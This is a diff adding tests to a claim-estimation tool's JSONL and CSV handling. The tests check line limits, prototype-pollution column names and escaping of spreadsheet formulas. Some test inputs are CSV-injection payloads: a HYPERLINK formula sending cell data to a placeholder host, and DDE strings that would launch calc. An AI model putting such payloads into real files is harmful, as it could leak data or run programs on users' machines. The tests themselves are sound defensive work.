@@ -100,6 +100,21 @@ describe('--jsonl', () => {
     ]);
   });
 
+  it('takes a line of exactly the limit whether it ends in LF or CRLF, wherever the chunks split it', async () => {
+    const exact = `{"city": "${'x'.repeat(MAX_RECORD_CHARS - 12)}"}`;
+    expect(exact).toHaveLength(MAX_RECORD_CHARS);
+    // 61,681 × 17 = 1,048,577: a chunk ends right after the \r, before its \n.
+    for (const [ending, size] of [['\n', 1 << 16], ['\r\n', 1 << 16], ['\r\n', 61_681]] as const) {
+      const { lines } = await jsonl(`${exact}${ending}${JSON.stringify(good)}${ending}`, size);
+      expect(lines.map((l) => [l.line, l.error?.code])).toEqual([
+        [1, 'invalid-input'],
+        [2, undefined],
+      ]);
+    }
+    const over = await jsonl(`${exact}x\r\n`, 61_681);
+    expect(over.lines.map((l) => l.error.code)).toEqual(['line-too-long']);
+  });
+
   it('waits for a slow reader: never more than a little output buffered', async () => {
     const n = 1000;
     const input = Array.from({ length: n }, (_, i) => JSON.stringify({ ...good, totalCost: 1000 + i })).join('\n');
@@ -138,6 +153,9 @@ describe('CSV cells, by one rule for every column', () => {
     ['007', '007'],
     [' 3', ' 3'],
     ['null', 'null'],
+    // More digits than a JSON number holds: the text, read (and refused) as the field's own rules say.
+    ['99999999.999999999', '99999999.999999999'],
+    ['1e400', '1e400'],
     ['[{"date":"2025-01-01","hospitalLevel":3,"totalCost":100}]', [{ date: '2025-01-01', hospitalLevel: 3, totalCost: 100 }]],
     ['{"deductible": 500}', { deductible: 500 }],
   ])('%j → %j', (cell, value) => {
@@ -157,6 +175,16 @@ describe('CSV cells, by one rule for every column', () => {
     expect(readHeader(['city', ' scheme ', 'benefit'])).toEqual({ ok: true, fields: ['city', 'scheme', 'benefit'] });
     expect(readHeader(['city', 'city'])).toMatchObject({ ok: false, problem: expect.stringContaining('city 列出现了不止一次') });
     expect(readHeader(['city', ''])).toMatchObject({ ok: false, problem: expect.stringContaining('第 2 列没有字段名') });
+  });
+
+  it.each(['__proto__', 'constructor', 'prototype'])('refuses %s as a column name', (name) => {
+    // With an object cell, __proto__ made the row's fields be read through the prototype, and it was estimated.
+    expect(readHeader(['city', name])).toEqual({ ok: false, problem: `CSV 表头第 2 列的字段名 ${name} 不能使用。` });
+  });
+
+  it('refuses a header of more than 64 columns (a claim has about 20 fields)', () => {
+    expect(readHeader(Array.from({ length: 64 }, (_, i) => `c${i}`)).ok).toBe(true);
+    expect(readHeader(Array.from({ length: 65 }, (_, i) => `c${i}`))).toEqual({ ok: false, problem: 'CSV 表头有 65 列，最多 64 列。' });
   });
 });
 
@@ -240,6 +268,25 @@ describe('--csv', () => {
     const { rows } = await csv('totalCost,hospitalLevel,admission,city,scheme,member,date,ward\n20000,3,1,yantai,employee,working,2020-06-01,\n20000,3,1,yantai,employee,working,2020-06-01,7\n');
     expect(rows[1]!.at(-3)).toBe('3390.00');
     expect(rows[2]!.at(-1)).toContain('不认识的字段：ward');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, with a leading apostrophe; numbers stay numbers', async () => {
+    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"看结果")', '+1+cmd|calc!A0', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const header = `=cmd|calc!A0,city,scheme,member,date,hospitalLevel,admission,totalCost`;
+    const rows = formulas.map((f) => `"${f.replaceAll('"', '""')}",yantai,employee,working,2020-06-01,3,1,20000`);
+    const { rows: out } = await csv(`${header}\n${rows.join('\n')}\n-5,yantai,employee,working,2020-06-01,3,1,-1\n`);
+    expect(out[0]![0]).toBe("'=cmd|calc!A0");
+    expect(out.slice(1, -1).map((r) => r[0])).toEqual(formulas.map((f) => `'${f}`));
+    // The column's name is in every row's error; the message starts with it only when the cell is JSON.
+    expect(out[1]!.at(-1)).toMatch(/^输入有误：输入含有不认识的字段：=cmd\|calc!A0/);
+    expect(out.at(-1)!.slice(0, 1)).toEqual(['-5']);
+    expect(out.at(-1)!.slice(7, 8)).toEqual(['-1']);
+    for (const cell of out.flat()) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)).toBe(false);
+  });
+
+  it('neutralises an error that starts with a column name', async () => {
+    const { rows } = await csv('=A1,city\n{,yantai\n');
+    expect(rows[1]!.at(-1)).toMatch(/^'=A1 列不是有效的 JSON/);
   });
 
   it('stops at a header it cannot use, printing nothing', async () => {
